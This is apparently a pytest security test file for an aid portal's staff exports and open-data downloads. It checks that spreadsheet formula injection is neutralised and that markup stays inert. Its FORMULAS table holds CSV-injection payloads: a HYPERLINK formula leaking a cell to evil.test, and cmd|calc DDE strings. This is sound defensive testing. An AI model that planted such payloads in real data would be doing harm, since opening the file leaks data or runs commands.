"""Hostile text in the files the portal writes: staff exports of admin lists (CSV, XLSX) and the
open-data downloads (CSV, JSON, GeoJSON).

A spreadsheet runs a cell that starts with = + - @ (or a tab or CR before one) as a formula: every
text cell of every CSV and XLSX must come out neutralised, whatever field it came from. Markup is
just data in these files: it must arrive intact, in a download no browser renders as a page.
"""

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from donations.models import Collaborator, Delivery, Opd, Pledge
from ksbb.lib.cells import FORMULA_STARTS
from locations.models import ContactPerson, Site
from needs.models import AidType, Category, Need
from tests.helpers import admin_url
from tests.security.markup import ALL_IN_ONE

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.test/?leak="&A1,"Open")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}
EXPORTS = [Need, Site, ContactPerson, Pledge, Delivery]
DATASETS = ["needs", "sites", "pledges", "deliveries", "collaborators"]


def set_every_text(value: str) -> None:
    """Every free text an import, a donor or staff can set (what the exports carry among them)."""
    Need.objects.update(title=value, description=value, criteria=value, external_ref=None)
    Need.objects.filter(pk=Need.objects.order_by("pk").values("pk")[:1]).update(
        external_ref=value[:64]
    )
    Site.objects.update(name=value, address=value)
    Collaborator.objects.update(public_name=value)
    Pledge.objects.update(message=value)
    ContactPerson.objects.update(name=value, note=value)
    Delivery.objects.update(note=value)
    Opd.objects.update(name=value)
    AidType.objects.filter(name="Paket sembako").update(name=value, unit=value[:30])
    Category.objects.filter(slug="pangan").update(name=value[:60])


def admin_export(client, model, action: str) -> tuple[list[list], object]:
    response = client.post(
        admin_url(model, "changelist"),
        {
            "action": action,
            "_selected_action": [str(pk) for pk in model.objects.values_list("pk", flat=True)],
        },
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    if action == "export_xlsx":
        sheet = load_workbook(io.BytesIO(response.content)).active
        return [[cell for cell in row] for row in sheet.iter_rows()], response
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline=""))), response


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def formulas_in(cells) -> list[str]:
    """Text cells a spreadsheet would run (a number such as -6.17 is not one)."""
    return [
        c
        for c in cells
        if isinstance(c, str) and c.startswith(FORMULA_STARTS) and not _is_number(c)
    ]


def _neutralised(cells, formula: str) -> None:
    assert formulas_in(cells) == []
    # XML (XLSX) turns a CR into a line feed; the cell is still text.
    texts = [c.replace("\r", "\n") for c in cells if isinstance(c, str)]
    assert "'" + formula.replace("\r", "\n") in texts, "the hostile text was not exported at all"


@pytest.fixture(params=list(FORMULAS.values()), ids=list(FORMULAS))
def formula(request, city):
    set_every_text(request.param)
    return request.param


def test_staff_csv_exports_neutralise_formulas_in_every_cell(staff_client, formula):
    for model in EXPORTS:
        rows, _response = admin_export(staff_client, model, "export_csv")
        _neutralised([c for row in rows[1:] for c in row], formula)


def test_staff_xlsx_exports_hold_no_formula_at_all(staff_client, formula):
    for model in EXPORTS:
        rows, _response = admin_export(staff_client, model, "export_xlsx")
        cells = [cell for row in rows[1:] for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], model
        _neutralised([c.value for c in cells], formula)


def test_open_data_csv_neutralises_formulas_in_every_cell(client, formula):
    for name in DATASETS:
        response = client.get(f"/transparansi/data/{name}.csv")
        text = b"".join(response.streaming_content).decode()
        rows = list(csv.reader(io.StringIO(text, newline="")))
        cells = [c for row in rows[2:] for c in row]  # after the header and the HXL row
        assert formulas_in(cells) == [], name
        if name in ("needs", "sites", "collaborators"):  # the ones with a free-text column
            _neutralised(cells, formula)


@pytest.fixture
def markup(city):
    set_every_text(ALL_IN_ONE)


def test_markup_is_data_in_every_download_and_none_is_a_page(client, staff_client, markup):
    for name in DATASETS:
        for fmt, content_type in [("json", "application/json"), ("csv", "text/csv; charset=utf-8")]:
            response = client.get(f"/transparansi/data/{name}.{fmt}")
            assert response["Content-Type"] == content_type
            assert response["Content-Disposition"].startswith("attachment;")
            assert response["X-Content-Type-Options"] == "nosniff"
    rows = json.loads(client.get("/transparansi/data/needs.json").content)["rows"]
    assert {row["title"] for row in rows} == {ALL_IN_ONE}
    features = json.loads(client.get("/transparansi/data/sites.geojson").content)["features"]
    assert {f["properties"]["site_name"] for f in features} == {ALL_IN_ONE}
    for model in EXPORTS:
        for action in ("export_csv", "export_xlsx"):
            rows, response = admin_export(staff_client, model, action)
            assert response["X-Content-Type-Options"] == "nosniff"
    rows, _response = admin_export(staff_client, Need, "export_csv")
    assert ALL_IN_ONE in rows[1]
